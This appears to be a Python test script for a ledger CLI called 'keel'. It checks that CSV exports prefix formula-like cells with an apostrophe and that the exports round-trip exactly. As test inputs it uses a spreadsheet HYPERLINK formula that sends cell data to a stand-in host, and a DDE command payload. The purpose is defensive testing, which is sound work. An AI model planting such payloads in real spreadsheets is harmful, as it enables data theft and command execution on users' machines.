"""CSV exports a spreadsheet cannot run as formulas, that import back without loss.

A spreadsheet treats a cell starting with = + - @ TAB or CR as a formula (the list the OWASP
"CSV Injection" page gives, from memory). keel's CSV exports put an apostrophe before such
text, and before an apostrophe that would otherwise be read as that guard; `keel import`
takes exactly one such apostrophe off again; numbers (keel's plain decimals, e.g. -0.25) are
written as they are. Checked here: every exported cell, read with Python's csv module (an
RFC 4180 reader outside keel), is either a plain number or starts with no formula character;
the exports import into an empty ledger and export again byte for byte; the JSON exports of
both ledgers (unguarded, exact) agree.
"""
import csv
import io
import json
import os
import re
import sys

sys.path.insert(0, os.path.dirname(__file__))
from keel_cli import Ledger, check, equal  # noqa: E402

NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
FORMULA = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_ACCOUNT = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
HOSTILE_SECURITY = "+cmd|' /C calc'!A0"
NOTES = ["@SUM(1+1)", "-2+3", "'=not a formula", "''double", "'plain apostrophe", "-", "=",
         "+5", "-5"]

a = Ledger()
a.ok("account", "add", HOSTILE_ACCOUNT, "--currency", "EUR")
a.ok("account", "add", "'Quoted pension", "--currency", "EUR")
a.ok("security", "add", "=QRX", "--name", HOSTILE_SECURITY, "--kind", "stock", "--currency", "EUR",
     "--sector", "-Utilities")
a.ok("record", "deposit", "--date", "2024-01-02", "--account", HOSTILE_ACCOUNT, "--amount", "5000",
     "--ref", "=ref-1")
for i, note in enumerate(NOTES):
    a.ok("record", "deposit", "--date", "2024-01-03", "--account", HOSTILE_ACCOUNT, "--amount",
         f"{i + 1}", "--note", note)
a.ok("record", "buy", "--date", "2024-01-04", "--account", HOSTILE_ACCOUNT, "--symbol", "=QRX",
     "--quantity", "3", "--price", "10.5", "--note", "@buy")
a.ok("record", "transfer_out", "--date", "2024-01-05", "--account", HOSTILE_ACCOUNT,
     "--to-account", "'Quoted pension", "--amount", "7")
d = a.dir.name
with open(os.path.join(d, "p.csv"), "w") as f:
    f.write("date,symbol,close\n2024-01-04,=QRX,10.5\n")
with open(os.path.join(d, "m.csv"), "w") as f:
    f.write("date,symbol,metric,value\n2023-12-31,=QRX,+margin,-0.25\n2023-12-31,=QRX,pe,-12\n")
with open(os.path.join(d, "dist.csv"), "w") as f:
    f.write("ex_date,symbol,per_share\n2024-01-04,=QRX,0.1\n")
with open(os.path.join(d, "s.csv"), "w") as f:
    f.write("date,symbol,ratio\n2024-06-03,=QRX,2\n")
for what, name in (("prices", "p"), ("metrics", "m"), ("distributions", "dist"), ("splits", "s")):
    a.ok("import", what, os.path.join(d, f"{name}.csv"))

KINDS = ("accounts", "securities", "transactions", "prices", "metrics", "distributions", "splits")
exported = {kind: a.ok("export", kind) for kind in KINDS}
cells = 0
for kind, text in exported.items():
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows[1:]:
        for cell in row:
            cells += 1
            check(NUMBER.match(cell) or not cell.startswith(FORMULA),
                  f"{kind}: cell {cell!r} would run as a formula")
check(cells > 80, f"only {cells} cells read")
metric_rows = list(csv.reader(io.StringIO(exported["metrics"], newline="")))
equal(metric_rows[1:], [["2023-12-31", "'=QRX", "'+margin", "-0.25", "2023-12-31"],
                        ["2023-12-31", "'=QRX", "pe", "-12", "2023-12-31"]],
      "metric rows: text guarded, negative numbers written as numbers")
check("'=HYPERLINK(" in exported["accounts"], "the hostile account name is guarded")
check(",''=not a formula," in exported["transactions"],
      "an apostrophe before a formula character gets one more")
check(",'plain apostrophe," in exported["transactions"], "a plain leading apostrophe is kept as is")

# Round trip: into an empty ledger, then out again, byte for byte.
b = Ledger()
for kind in ("accounts", "securities", "transactions", "prices", "metrics", "distributions",
             "splits"):
    path = os.path.join(b.dir.name, f"{kind}.csv")
    with open(path, "w", newline="") as f:
        f.write(exported[kind])
    b.ok("import", kind, path)
for kind in KINDS:
    equal(b.ok("export", kind), exported[kind], f"{kind} exported again")
    equal(json.loads(b.ok("export", kind, "--json")), json.loads(a.ok("export", kind, "--json")),
          f"{kind} as JSON in both ledgers")
notes = [t.get("note") for t in json.loads(b.ok("export", "transactions", "--json"))]
for note in NOTES:
    check(note in notes, f"note {note!r} came back exactly")
print(f"exports: {cells} cells safe in a spreadsheet; 7 kinds round-trip byte for byte")
